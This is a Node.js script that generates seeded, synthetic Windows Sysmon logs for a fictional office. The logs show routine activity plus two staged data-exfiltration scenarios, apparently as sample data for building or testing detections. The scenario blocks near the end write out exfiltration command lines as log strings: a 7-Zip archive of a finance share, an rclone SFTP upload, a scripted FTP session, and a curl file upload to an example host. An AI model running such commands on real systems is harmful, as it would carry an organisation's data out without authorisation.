// Writes samples/: a small office's Windows telemetry with two exfiltration attempts among ordinary work.
// The same seed gives the same bytes: run `node scripts/make-samples.mjs` after a change and commit what it writes.
import { mkdirSync, writeFileSync } from 'node:fs'

const OUT = new URL('../samples/', import.meta.url)
const START = Date.UTC(2026, 1, 2, 7, 0, 0)

/** Mulberry32: a small seeded generator. */
function seeded(seed) {
  let state = seed
  return () => {
    state = (state + 0x6d2b79f5) | 0
    let t = Math.imul(state ^ (state >>> 15), 1 | state)
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296
  }
}

const random = seeded(1048)
const pick = (items) => items[Math.floor(random() * items.length)]
const between = (low, high) => low + Math.floor(random() * (high - low + 1))
const hex = (digits) => Array.from({ length: digits }, () => between(0, 15).toString(16)).join('')
const guid = () => `{${[8, 4, 4, 4, 12].map(hex).join('-')}}`.toUpperCase()
const iso = (ms) => new Date(ms).toISOString()
const sysmonTime = (ms) => iso(ms).replace('T', ' ').replace('Z', '')

class Host {
  constructor(name, ip, user) {
    Object.assign(this, { name, ip, user, records: [], serial: 4000 })
    this.explorer = {
      guid: guid(),
      pid: between(3000, 4000),
      image: 'C:\\Windows\\explorer.exe',
      command: 'C:\\Windows\\Explorer.EXE',
    }
  }

  #sysmon(at, id, data) {
    this.serial += 1
    this.records.push({
      at,
      record: {
        '@timestamp': iso(at),
        Channel: 'Microsoft-Windows-Sysmon/Operational',
        SourceName: 'Microsoft-Windows-Sysmon',
        EventID: id,
        Hostname: this.name,
        RecordNumber: this.serial,
        UtcTime: sysmonTime(at),
        ...data,
      },
    })
  }

  start(at, image, command, parent = this.explorer, user = this.user) {
    const process = { guid: guid(), pid: between(4100, 19000), image, command }
    this.#sysmon(at, 1, {
      ProcessGuid: process.guid,
      ProcessId: String(process.pid),
      Image: image,
      CommandLine: command,
      CurrentDirectory: 'C:\\Users\\Public\\',
      User: user,
      LogonId: `0x${hex(5)}`,
      TerminalSessionId: '1',
      IntegrityLevel: 'Medium',
      Hashes: `SHA256=${hex(64).toUpperCase()}`,
      ParentProcessGuid: parent.guid,
      ParentProcessId: String(parent.pid),
      ParentImage: parent.image,
      ParentCommandLine: parent.command,
    })
    return process
  }

  connect(at, process, ip, port, name = '-') {
    this.#sysmon(at, 3, {
      ProcessGuid: process.guid,
      ProcessId: String(process.pid),
      Image: process.image,
      User: this.user,
      Protocol: 'tcp',
      Initiated: 'true',
      SourceIsIpv6: 'false',
      SourceIp: this.ip,
      SourceHostname: this.name,
      SourcePort: String(between(49152, 65000)),
      DestinationIsIpv6: 'false',
      DestinationIp: ip,
      DestinationHostname: name,
      DestinationPort: String(port),
    })
  }

  file(at, process, path) {
    this.#sysmon(at, 11, {
      ProcessGuid: process.guid,
      ProcessId: String(process.pid),
      Image: process.image,
      TargetFilename: path,
      CreationUtcTime: sysmonTime(at),
      User: this.user,
    })
  }

  lookup(at, process, name, answer) {
    this.#sysmon(at, 22, {
      ProcessGuid: process.guid,
      ProcessId: String(process.pid),
      Image: process.image,
      QueryName: name,
      QueryStatus: '0',
      QueryResults: `::ffff:${answer};`,
      User: this.user,
    })
  }
}

const PROGRAMS = [
  [
    'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
    '"WINWORD.EXE" /n "C:\\Users\\Public\\Documents\\minutes.docx"',
  ],
  ['C:\\Windows\\System32\\notepad.exe', 'notepad.exe C:\\Users\\Public\\notes.txt'],
  ['C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c dir C:\\Users\\Public'],
  ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -NoProfile Get-ChildItem'],
  ['C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\System32\\svchost.exe -k netsvcs -p'],
  ['C:\\Windows\\System32\\taskhostw.exe', 'taskhostw.exe'],
]

/** A day at the desk: programs start, the browser talks to the web. */
function work(host, hours) {
  const browser = host.start(
    START + between(1, 600) * 1000,
    'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    '"chrome.exe"',
  )
  for (let at = START; at < START + hours * 3_600_000; at += between(60, 500) * 1000) {
    const [image, command] = pick(PROGRAMS)
    if (random() < 0.5) host.start(at, image, command)
    else host.connect(at, browser, `93.184.215.${between(2, 60)}`, pick([80, 443, 443, 443]), 'www.example.com')
  }
}

const workstation = new Host('WS-ACCT-01.corp.example', '10.20.1.15', 'CORP\\mira')
const server = new Host('SRV-FILE-02.corp.example', '10.20.2.8', 'CORP\\svc-share')

work(workstation, 6)
work(server, 6)

// T1048.002: staged, then sent by rclone over SFTP.
{
  const at = START + 3.2 * 3_600_000
  const shell = server.start(at, 'C:\\Windows\\System32\\cmd.exe', 'cmd.exe')
  const archive = server.start(
    at + 40_000,
    'C:\\Program Files\\7-Zip\\7z.exe',
    '7z.exe a -p C:\\ProgramData\\q1.7z D:\\Shares\\Finance',
    shell,
  )
  server.file(at + 41_000, archive, 'C:\\ProgramData\\q1.7z')
  const rclone = server.start(
    at + 130_000,
    'C:\\ProgramData\\rclone.exe',
    'rclone.exe copy C:\\ProgramData\\q1.7z sftp-out:/in --sftp-host 93.184.215.14 --sftp-user drop',
    shell,
  )
  server.connect(at + 131_500, rclone, '93.184.215.14', 22)
}

// T1048.003: a scripted FTP session, then an upload over plain HTTP.
{
  const at = START + 4.6 * 3_600_000
  const shell = workstation.start(at, 'C:\\Windows\\System32\\cmd.exe', 'cmd.exe /q')
  workstation.file(at + 9_000, shell, 'C:\\Users\\Public\\s.txt')
  const ftp = workstation.start(
    at + 12_000,
    'C:\\Windows\\System32\\ftp.exe',
    'ftp.exe -s:C:\\Users\\Public\\s.txt 93.184.215.14',
    shell,
  )
  workstation.connect(at + 12_800, ftp, '93.184.215.14', 21)
  const curl = workstation.start(
    at + 95_000,
    'C:\\Windows\\System32\\curl.exe',
    'curl.exe --upload-file C:\\Users\\Public\\ledger.zip http://files.example.com/in/ledger.zip',
    shell,
  )
  workstation.lookup(at + 95_300, curl, 'files.example.com', '93.184.215.14')
  workstation.connect(at + 95_600, curl, '93.184.215.14', 80, 'files.example.com')
}

mkdirSync(OUT, { recursive: true })
for (const host of [workstation, server]) {
  const lines = host.records.toSorted((a, b) => a.at - b.at).map(({ record }) => `${JSON.stringify(record)}\n`)
  const name = `${host.name.split('.')[0].toLowerCase()}-sysmon.jsonl`
  writeFileSync(new URL(name, OUT), lines.join(''))
  console.log(`samples/${name}: ${lines.length} records`)
}
